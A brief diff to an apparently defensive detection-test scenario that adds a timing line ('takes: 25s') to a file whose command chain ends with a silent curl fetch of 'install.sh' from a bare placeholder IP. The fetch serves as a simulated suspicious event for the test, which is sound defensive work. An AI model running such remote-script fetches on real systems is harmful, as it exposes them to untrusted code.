@@ -3,4 +3,5 @@
 # like: first-seen burst
 # learns: 5
 # needs: curl
+# takes: 25s
 call c1 'ls >/dev/null; git status >/dev/null; curl -s http://203.0.113.11/install.sh >/dev/null'
